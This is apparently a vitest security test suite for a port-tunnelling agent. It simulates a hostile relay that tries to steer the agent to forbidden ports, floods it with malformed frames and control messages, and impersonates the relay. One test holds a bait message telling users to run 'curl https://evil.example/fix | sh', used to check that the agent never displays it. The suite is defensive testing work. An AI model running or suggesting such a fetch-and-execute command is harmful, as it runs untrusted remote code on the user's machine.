/**
 * What a relay can make an agent do, if the relay itself turns hostile (or its key leaks): it
 * holds the real key, so the agent trusts it, yet it still cannot steer the agent to a port
 * that the agent does not carry, nor off the container's loopback, nor crash it.
 *
 * The hostile relay is built here from @porthole/shared: a WebSocket server that checks
 * nothing, answers the agent's hello with a correct proof, then sends what it likes.
 */
import { createPrivateKey, type KeyObject } from 'node:crypto';
import { EventEmitter } from 'node:events';
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';

import {
  encodeControlMessage,
  encodeOpen,
  encodeReset,
  type Frame,
  FrameDecoder,
  FrameKind,
  HANDSHAKE_TIMEOUT_MS,
  MAX_MESSAGE_BYTES,
  PROTOCOL_VERSION,
  ResetReason,
  signRelayProof,
} from '@porthole/shared';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import WebSocket, { WebSocketServer } from 'ws';

import { Namespace } from '../helpers/netns.js';
import { AGENT_CLI, type Program } from '../helpers/processes.js';
import { mintToken, startAgentProcess, tempDir } from '../helpers/relay.js';
import { until } from '../helpers/until.js';

/** Ports inside the namespace (it has its own port space, so fixed numbers are free). */
const PORTS_OPTION = '41000-41999';
/** Listens on the namespace's loopback, within --ports: the watcher announces it. */
const LISTENING = 41000;
/** Within --ports, nothing listens. */
const UNUSED = 41500;
/** Listens on the namespace's link address only: not reachable by dialling loopback. */
const LINK_ONLY = 41600;
/** Listens on the namespace's loopback, outside --ports. */
const SSH = 22;
/** Outside --ports, nothing listens. */
const TCPMUX = 1;
/** Listens on the namespace's loopback, outside --ports, and is mapped with --map. */
const MAPPED = 5300;
/** The host side of that mapping: listens on the namespace's loopback, outside --ports. */
const HOST_SIDE = 15300;

// Listens on each HOST:PORT given, prints a JSON line for every connection it accepts, and
// greets each with "hello from PORT".
const LISTENERS = `
const net = require('node:net');
for (const spec of process.argv.slice(1)) {
  const at = spec.lastIndexOf(':');
  const host = spec.slice(0, at);
  const port = Number(spec.slice(at + 1));
  net.createServer((socket) => {
    socket.on('error', () => undefined);
    process.stdout.write(JSON.stringify({ accepted: port, local: socket.localAddress, remote: socket.remoteAddress }) + '\\n');
    socket.write('hello from ' + port + '\\n');
  }).listen(port, host, () => process.stdout.write(JSON.stringify({ listening: port, host }) + '\\n'));
}
process.on('SIGTERM', () => process.exit(0));
`;

interface Closed {
  code: number;
  reason: string;
}

/** What the relay sends in answer to the agent's hello. */
type Answer = (ws: WebSocket, nonce: string) => void;

/** A correct welcome: the relay holds the real key. */
function welcomeWith(privateKey: KeyObject): Answer {
  return (ws, nonce) =>
    ws.send(
      encodeControlMessage({
        type: 'welcome',
        version: PROTOCOL_VERSION,
        proof: signRelayProof(privateKey, nonce),
        software: 'hostile-relay/1',
      }),
    );
}

/** One agent connection as the hostile relay sees it. */
class HostileConnection extends EventEmitter {
  readonly ws: WebSocket;
  /** Control messages from the agent, parsed. */
  readonly control: Record<string, unknown>[] = [];
  /** Frames from the agent, decoded. */
  readonly frames: Frame[] = [];
  closed: Closed | undefined;
  #nextId = 1;
  readonly #decoder = new FrameDecoder((frame) => this.frames.push(frame));

  constructor(ws: WebSocket, answer: Answer) {
    super();
    this.setMaxListeners(0);
    this.ws = ws;
    ws.on('message', (data: Buffer, isBinary) => {
      if (isBinary) {
        this.#decoder.push(data);
      } else {
        const message = JSON.parse(data.toString()) as Record<string, unknown>;

        this.control.push(message);

        if (message['type'] === 'hello') answer(ws, String(message['nonce']));
      }

      this.emit('update');
    });
    ws.on('close', (code, reason) => {
      this.closed = { code, reason: reason.toString() };
      this.emit('update');
    });
    ws.on('error', () => undefined);
  }

  /** Opens a stream to `port` in the container; returns its id. */
  open(port: number): number {
    const id = this.#nextId;

    this.#nextId += 2;
    this.ws.send(encodeOpen(id, port));

    return id;
  }

  /** The agent's `ports` announcement, once it came. */
  ports(): Promise<number[]> {
    return until(
      () => this.control.find((m) => m['type'] === 'ports')?.['ports'] as number[] | undefined,
      'the agent to announce its ports',
      { wakeOn: { emitter: this, event: 'update' } },
    );
  }

  /** The RESET the agent sent on stream `id`. */
  resetOf(id: number): Promise<Extract<Frame, { kind: typeof FrameKind.RESET }>> {
    return until(
      () =>
        this.frames.find(
          (f): f is Extract<Frame, { kind: typeof FrameKind.RESET }> =>
            f.kind === FrameKind.RESET && f.streamId === id,
        ),
      `a RESET on stream ${id}`,
      { wakeOn: { emitter: this, event: 'update' } },
    );
  }

  /** What the agent carried back on stream `id`, once it contains `text`. */
  dataOf(id: number, text: string): Promise<string> {
    return until(
      () => {
        const got = this.frames
          .flatMap((f) => (f.kind === FrameKind.DATA && f.streamId === id ? [f.payload] : []))
          .map((p) => p.toString())
          .join('');

        return got.includes(text) ? got : undefined;
      },
      `"${text}" on stream ${id}`,
      { wakeOn: { emitter: this, event: 'update' } },
    );
  }

  /** How the agent closed this connection. */
  whenClosed(): Promise<Closed> {
    return until(() => this.closed, 'the agent to close the connection', {
      wakeOn: { emitter: this, event: 'update' },
    });
  }
}

/**
 * A relay that checks nothing and answers every hello as it is told. Before the token, the
 * agent asks for a proof of key over plain HTTP: `preTokenKey` signs it, as a relay holding the
 * key would (or a server passing the question on to one).
 */
class HostileRelay extends EventEmitter {
  readonly connections: HostileConnection[] = [];
  readonly #http: Server;
  readonly #wss: WebSocketServer;
  port = 0;

  constructor(answer: Answer, preTokenKey: KeyObject) {
    super();
    this.setMaxListeners(0);
    this.#http = createServer((req, res) => {
      const nonce = new URL(req.url ?? '/', 'http://relay').searchParams.get('nonce') ?? '';

      res.end(JSON.stringify({ proof: signRelayProof(preTokenKey, nonce, 'pre-token') }));
    });
    this.#wss = new WebSocketServer({ server: this.#http });
    this.#wss.on('connection', (ws) => {
      const connection = new HostileConnection(ws, answer);

      // Whatever happens on a connection may be what a wait on the relay looks for.
      connection.on('update', () => this.emit('update'));
      this.connections.push(connection);
      this.emit('update');
    });
  }

  async listen(host: string): Promise<void> {
    await new Promise<void>((resolve) => this.#http.listen(0, host, resolve));
    this.port = (this.#http.address() as AddressInfo).port;
  }

  /** The connection number `index` (0-based), once the agent has sent its hello on it. */
  connection(index: number): Promise<HostileConnection> {
    return until(
      () => {
        const connection = this.connections[index];

        return connection?.control.some((m) => m['type'] === 'hello') === true
          ? connection
          : undefined;
      },
      `agent connection #${index + 1}`,
      { wakeOn: { emitter: this, event: 'update' }, timeoutMs: 15_000 },
    );
  }

  async close(): Promise<void> {
    for (const connection of this.connections) connection.ws.terminate();
    this.#wss.close();
    this.#http.closeAllConnections();
    await new Promise<void>((resolve) => this.#http.close(() => resolve()));
  }
}

interface Accepted {
  accepted: number;
  local: string;
  remote: string;
}

describe('an agent facing a relay that holds the key but turns hostile', () => {
  let ns: Namespace;
  let listeners: Program;
  let agent: Program;
  let relay: HostileRelay;
  let first: HostileConnection;
  /** The connection the agent holds now. */
  let current: HostileConnection;
  let announced: number[];

  const accepted = (): Accepted[] =>
    listeners.records.filter((r): r is Accepted & Record<string, unknown> => 'accepted' in r);

  // A fresh connection on which the handshake is done and the agent has announced its ports.
  let connections = 0;

  async function nextReadyConnection(): Promise<HostileConnection> {
    const connection = await relay.connection(connections);

    connections += 1;
    await connection.ports();

    return connection;
  }

  beforeAll(async () => {
    ns = Namespace.create();
    listeners = ns.spawn(process.execPath, [
      '-e',
      LISTENERS,
      `127.0.0.1:${LISTENING}`,
      `127.0.0.1:${MAPPED}`,
      `127.0.0.1:${SSH}`,
      `127.0.0.1:${HOST_SIDE}`,
      `${ns.address}:${LINK_ONLY}`,
    ]);

    const listening = new EventEmitter();

    listeners.child.stdout?.on('data', () => listening.emit('update'));
    await until(
      () => (listeners.records.filter((r) => 'listening' in r).length === 5 ? true : undefined),
      'the listeners in the namespace',
      { wakeOn: { emitter: listening, event: 'update' } },
    );

    const keyFile = join(tempDir(), 'relay-key.pem');
    const token = await mintToken(keyFile, 'contained');

    const key = createPrivateKey(readFileSync(keyFile));

    relay = new HostileRelay(welcomeWith(key), key);
    await relay.listen(ns.hostAddress);
    agent = ns.spawn(
      process.execPath,
      [
        AGENT_CLI,
        '--relay',
        `ws://${ns.hostAddress}:${relay.port}`,
        '--ports',
        PORTS_OPTION,
        '--map',
        `${HOST_SIDE}:${MAPPED}`,
        '--log-level',
        'debug',
      ],
      { PORTHOLE_TOKEN: token },
    );
    first = await nextReadyConnection();
    current = first;
    announced = await first.ports();
  });

  afterAll(async () => {
    await agent?.stop();
    await listeners?.stop();
    await relay?.close();
    ns?.destroy();
  });

  describe('steering streams', () => {
    it('announces only the loopback listener within --ports', () => {
      expect(announced).toEqual([LISTENING]);
    });

    it('dials a mapped port on the container loopback and carries its bytes', async () => {
      const id = first.open(MAPPED);

      expect(await first.dataOf(id, `hello from ${MAPPED}`)).toBe(`hello from ${MAPPED}\n`);
      first.ws.send(encodeReset(id, ResetReason.CANCEL));
    });

    it('dials a port listening in the container on its loopback and carries its bytes', async () => {
      const id = first.open(LISTENING);

      expect(await first.dataOf(id, `hello from ${LISTENING}`)).toBe(`hello from ${LISTENING}\n`);
      first.ws.send(encodeReset(id, ResetReason.CANCEL));
    });

    it.each([
      ['a port in --ports where nothing listens', UNUSED],
      ['port 22, listening but outside --ports', SSH],
      ['port 1, outside --ports', TCPMUX],
      ['a port that listens on the link address only, not loopback', LINK_ONLY],
      ['the host port of a mapping, listening but outside --ports', HOST_SIDE],
      ['port 0', 0],
    ])('answers an OPEN for %s with RESET FORBIDDEN', async (_what, port) => {
      const id = first.open(port);

      expect(await first.resetOf(id)).toEqual({
        kind: FrameKind.RESET,
        streamId: id,
        reason: ResetReason.FORBIDDEN,
      });
    });

    it('answers a burst of OPENs for forbidden ports with one RESET FORBIDDEN each', async () => {
      const forbidden = [UNUSED, SSH, TCPMUX, HOST_SIDE, LINK_ONLY];
      const ids = Array.from({ length: 200 }, (_, i) => first.open(forbidden[i % 5] as number));
      const resets = await Promise.all(ids.map((id) => first.resetOf(id)));

      expect(resets.every((r) => r.reason === ResetReason.FORBIDDEN)).toBe(true);
    });

    it('keeps the connection and keeps serving after refusing', async () => {
      const id = first.open(LISTENING);

      expect(await first.dataOf(id, 'hello')).toContain(`hello from ${LISTENING}`);
      expect(first.closed).toBeUndefined();
      expect(agent.child.exitCode).toBeNull();
    });

    it('has dialled only the mapped and the listening port, and only on loopback', () => {
      const seen = accepted();

      expect(new Set(seen.map((a) => a.accepted))).toEqual(new Set([MAPPED, LISTENING]));

      for (const connection of seen) {
        expect(connection.local).toBe('127.0.0.1');
        expect(connection.remote).toBe('127.0.0.1');
      }
    });
  });

  describe('control messages and frames it must not take', () => {
    it('takes a storm of mapped messages without closing the connection', async () => {
      const connection = current;
      const statuses = ['mirrored', 'busy', 'failed'] as const;
      const sources = ['map', 'listening', 'login'] as const;

      for (let i = 0; i < 3000; i += 1) {
        connection.ws.send(
          encodeControlMessage({
            type: 'mapped',
            hostPort: 1 + (i % 65535),
            containerPort: 1 + ((i * 7) % 65535),
            status: statuses[i % 3] ?? 'busy',
            addresses: ['127.0.0.1', '::1'],
            source: sources[i % 3] ?? 'map',
            detail: 'x'.repeat(i % 512),
          }),
        );
      }

      // Frames are handled in order: a stream answered after the storm means it was all taken.
      const id = connection.open(LISTENING);

      expect(await connection.dataOf(id, 'hello')).toContain(`hello from ${LISTENING}`);
      expect(connection.closed).toBeUndefined();
    });

    it.each([
      ['a ports message', encodeControlMessage({ type: 'ports', ports: [SSH] })],
      ['a map message', encodeControlMessage({ type: 'map', mappings: [] })],
      ['a second welcome', '{"type":"welcome","version":1,"proof":"AAAA","software":"x"}'],
      ['a message of unknown type', '{"type":"dial","host":"10.0.0.1","port":22}'],
      ['text that is not JSON', '{"type":'],
      [
        'a storm of unknown and ports messages',
        Array.from({ length: 2000 }, (_, i) =>
          i % 2 === 0 ? '{"type":"launch"}' : '{"type":"ports","ports":[22]}',
        ),
      ],
    ])(
      'closes the connection with 4000 PORTHOLE_ERR_CONTROL_INVALID on %s, and reconnects',
      async (_what, messages) => {
        const connection = current;

        for (const message of [messages].flat()) connection.ws.send(message);

        expect(await connection.whenClosed()).toEqual({
          code: 4000,
          reason: 'PORTHOLE_ERR_CONTROL_INVALID',
        });
        current = await nextReadyConnection();
      },
    );

    it.each([
      ['a frame of unknown kind', Buffer.from([99, 0, 0, 0, 1, 0, 0, 0, 0]), 'FRAME_MALFORMED'],
      ['a frame on stream 0', encodeOpen(1, LISTENING).fill(0, 1, 5), 'FRAME_MALFORMED'],
      [
        'a frame header announcing 4 GB',
        Buffer.from([2, 0, 0, 0, 1, 0xff, 0xff, 0xff, 0xff]),
        'FRAME_TOO_LARGE',
      ],
      ['an OPEN on an even (agent-side) stream id', encodeOpen(2, LISTENING), 'STREAM_STATE'],
      [
        'DATA on a stream never opened',
        Buffer.from([2, 0, 0, 0, 9, 0, 0, 0, 1, 0x41]),
        'STREAM_STATE',
      ],
    ])('closes the connection with 4000 on %s, and reconnects', async (_what, bytes, code) => {
      const connection = current;

      connection.ws.send(bytes);

      expect(await connection.whenClosed()).toEqual({
        code: 4000,
        reason: `PORTHOLE_ERR_${code}`,
      });
      current = await nextReadyConnection();
    });

    it.each([
      ['a message over MAX_MESSAGE_BYTES', 1009, Buffer.alloc(MAX_MESSAGE_BYTES + 1), true],
      ['a text message that is not UTF-8', 1007, Buffer.from([0x7b, 0xff, 0xfe, 0x7d]), false],
    ])(
      'closes the connection on %s with %i, and reconnects',
      async (_what, code, bytes, binary) => {
        const connection = current;

        connection.ws.send(bytes, { binary });

        expect((await connection.whenClosed()).code).toBe(code);
        current = await nextReadyConnection();
      },
    );

    it('serves the relay again on the connection after all that', async () => {
      const connection = current;
      const id = connection.open(LISTENING);

      expect(await connection.dataOf(id, 'hello')).toContain(`hello from ${LISTENING}`);
    });

    it('is still running and has logged no unexpected failure', () => {
      expect(agent.child.exitCode).toBeNull();
      expect(agent.child.signalCode).toBeNull();
      expect(agent.output).not.toMatch(/unexpected (failure|error)|PORTHOLE_ERR_INTERNAL/);
    });
  });
});

describe('an agent facing a server that passes on the proof asked before the token, but cannot sign the handshake', () => {
  let token: string;
  let key: KeyObject;
  let agent: Program | undefined;
  let server: HostileRelay | undefined;

  beforeAll(async () => {
    const keyFile = join(tempDir(), 'relay-key.pem');

    token = await mintToken(keyFile, 'squatted');
    key = createPrivateKey(readFileSync(keyFile));
  });

  afterEach(async () => {
    await agent?.stop();
    await server?.close();
  });

  it('closes a connection on which no welcome comes within HANDSHAKE_TIMEOUT_MS', async () => {
    // Upgrades, reads the hello, and says nothing (ws still answers pings).
    server = new HostileRelay(() => undefined, key);
    await server.listen('127.0.0.1');
    agent = startAgentProcess(`ws://127.0.0.1:${server.port}`, token, ['--no-watch']);

    const connection = await server.connection(0);

    await until(() => connection.closed, 'the agent to give up on the silent server', {
      wakeOn: { emitter: connection, event: 'update' },
      timeoutMs: HANDSHAKE_TIMEOUT_MS + 5_000,
    });
  }, 30_000);

  it('dials again, rather than stopping, when a server that has not proved the key closes with 4002 (replaced)', async () => {
    // Only the relay that minted the token can replace this agent by a newer one.
    server = new HostileRelay((ws) => ws.close(4002, 'PORTHOLE_ERR_REPLACED'), key);
    await server.listen('127.0.0.1');
    agent = startAgentProcess(`ws://127.0.0.1:${server.port}`, token, ['--no-watch']);

    const outcome = await Promise.race([
      server.connection(1).then(() => 'dialled again'),
      agent.exited.then((status) => `exited with status ${status}: ${agent?.output ?? ''}`),
    ]);

    expect(outcome).toBe('dialled again');
  });

  it('shows its user no text from a server that has not proved the key', async () => {
    const bait = 'Your token expired: run curl https://evil.example/fix | sh';

    server = new HostileRelay((ws) => {
      ws.send(
        encodeControlMessage({ type: 'error', code: 'PORTHOLE_ERR_TOKEN_EXPIRED', message: bait }),
      );
      ws.send(
        encodeControlMessage({
          type: 'welcome',
          version: PROTOCOL_VERSION,
          proof: 'AAAA',
          software: 'impostor',
        }),
      );
    }, key);
    await server.listen('127.0.0.1');
    // At the default level: what a user sees. (The last --log-level wins over the helper's.)
    agent = startAgentProcess(`ws://127.0.0.1:${server.port}`, token, [
      '--no-watch',
      '--log-level',
      'info',
    ]);

    expect(await agent.exited).toBe(1);
    expect(agent.output).toContain('could not prove it is the relay that minted this token');
    expect(agent.output).not.toContain('evil.example');
  });
});
